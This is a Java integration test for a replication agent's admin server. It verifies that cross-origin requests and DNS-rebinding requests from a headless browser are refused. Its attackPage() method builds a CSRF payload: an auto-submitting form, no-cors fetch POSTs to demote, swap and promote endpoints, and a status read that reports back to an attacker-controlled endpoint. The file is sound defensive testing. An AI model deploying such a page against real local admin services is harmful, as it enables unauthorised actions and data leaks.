package io.replicator.agent.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import io.replicator.NodeState;
import io.replicator.ReplicationMode;
import io.replicator.ReplicationStatus;
import io.replicator.agent.admin.AdminHandlers;
import io.replicator.agent.admin.AdminServer;
import io.replicator.agent.admin.StatusDocuments;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.chrome.ChromeDriver;

/**
 * A browser is the attacker here: a page the operator opens on another site tries to make the
 * agent act, and a page served through DNS rebinding tries to read it. Chromium maps the
 * attacker's names to 127.0.0.1 (its host resolver rules), so everything stays on loopback.
 */
@Timeout(value = 3, unit = TimeUnit.MINUTES)
class CrossOriginAttackIT {
  private static final String TOKEN = "browser-T0ken-51c7e2d9";
  @TempDir Path dir;
  private final AtomicInteger operations = new AtomicInteger();
  private final AtomicInteger statusReads = new AtomicInteger();
  private final List<String> refusals = new CopyOnWriteArrayList<>();
  private final List<String> reports = new CopyOnWriteArrayList<>();
  private AdminServer admin;
  private HttpServer attacker;
  private ChromeDriver browser;
  private int adminPort;
  private int attackerPort;

  @BeforeEach
  void start() throws IOException {
    AdminHandlers handlers = new AdminHandlers()
        .status(() -> {
          statusReads.incrementAndGet();
          return StatusDocuments.of("alpha", new ReplicationStatus(NodeState.PRIMARY, ReplicationMode.SYNC,
              Optional.of("127.0.0.1:1"), true, false, Optional.empty(), 42, 0, 0, 0, 0, 0, Optional.empty())).build();
        })
        .refusals((operation, code, reason) -> refusals.add(operation + " " + code + ": " + reason));
    for (String op : List.of("swap", "promote", "demote", "resync", "verify", "lease")) {
      handlers.operation(op, () -> op + " ran " + operations.incrementAndGet());
    }
    admin = AdminServer.start(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), TOKEN, handlers);
    adminPort = admin.localAddress().getPort();
    attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    attackerPort = attacker.getAddress().getPort();
    attacker.createContext("/attack.html", exchange -> reply(exchange, "text/html", attackPage()));
    attacker.createContext("/report", exchange -> {
      reports.add(exchange.getRequestURI().getRawQuery());
      reply(exchange, "text/plain", "ok");
    });
    attacker.start();
    browser = HeadlessChromium.start(dir.resolve("profile"),
        "--host-resolver-rules=MAP attacker.test 127.0.0.1, MAP rebound.test 127.0.0.1");
  }

  @AfterEach
  void stop() {
    if (browser != null) {
      browser.quit();
    }
    if (attacker != null) {
      attacker.stop(0);
    }
    if (admin != null) {
      admin.close();
    }
  }

  /** A page on another site: a form that posts by itself, a script that posts, and a script that reads. */
  private String attackPage() {
    String target = "http://127.0.0.1:" + adminPort;
    return "<!DOCTYPE html><html><body>"
        + "<form id=f method=POST action='" + target + "/ops/demote?force=true' target=sink></form>"
        + "<iframe name=sink></iframe><script>"
        + "document.getElementById('f').submit();"
        + "fetch('" + target + "/ops/swap', {method: 'POST', mode: 'no-cors'})"
        + ".then(() => report('nocors=sent'), e => report('nocors=failed'));"
        + "fetch('" + target + "/ops/promote?force=true', {method: 'POST', headers: {'Content-Type': 'text/plain'},"
        + " body: 'x', mode: 'no-cors'}).then(() => report('nocors2=sent'), e => report('nocors2=failed'));"
        + "fetch('" + target + "/status').then(r => r.text()).then(t => report('read=' + encodeURIComponent(t)),"
        + " e => report('read=blocked'));"
        + "function report(what) { fetch('/report?' + what); }"
        + "</script></body></html>";
  }

  @Test
  void aPageOnAnotherSiteCannotMakeTheAgentActNorReadIt() {
    browser.get("http://attacker.test:" + attackerPort + "/attack.html");

    Awaitility.await().atMost(Duration.ofSeconds(30)).pollInterval(Duration.ofMillis(50))
        .until(() -> reports.stream().anyMatch(r -> r.startsWith("read=")) && refusals.size() >= 3);
    // each of the three posts reached the agent and was refused for where it came from, token or not
    assertThat(refusals).hasSize(3).allMatch(r -> r.contains("FORBIDDEN: cross-origin"));
    assertThat(refusals).anyMatch(r -> r.startsWith("demote")).anyMatch(r -> r.startsWith("swap"))
        .anyMatch(r -> r.startsWith("promote"));
    assertThat(operations).hasValue(0);
    // and the read is blocked: the agent refuses it, and no CORS header lets the page see anything
    assertThat(reports).contains("read=blocked").noneMatch(r -> r.contains("alpha"));
  }

  @Test
  void aPageServedThroughDnsRebindingGetsNothing() {
    int readsBefore = statusReads.get();
    // the attacker's name, resolving to the agent's own address: what a rebinding attack achieves
    browser.get("http://rebound.test:" + adminPort + "/");
    assertThat(browser.findElement(By.tagName("body")).getText()).contains("Forbidden")
        .contains("Host is not this endpoint's address");
    browser.get("http://rebound.test:" + adminPort + "/status");
    assertThat(browser.findElement(By.tagName("body")).getText()).contains("Forbidden").doesNotContain("alpha");
    assertThat(statusReads.get()).isEqualTo(readsBefore);

    // the same browser, through the endpoint's own address, gets the console
    browser.get("http://127.0.0.1:" + adminPort + "/");
    Awaitility.await().atMost(Duration.ofSeconds(20)).pollInterval(Duration.ofMillis(100))
        .until(() -> browser.findElement(By.id("local-name")).getText().contains("alpha"));
  }

  private static void reply(com.sun.net.httpserver.HttpExchange exchange, String type, String body) throws IOException {
    byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
    exchange.getResponseHeaders().set("Content-Type", type + "; charset=utf-8");
    exchange.sendResponseHeaders(200, bytes.length);
    try (OutputStream out = exchange.getResponseBody()) {
      out.write(bytes);
    }
  }
}
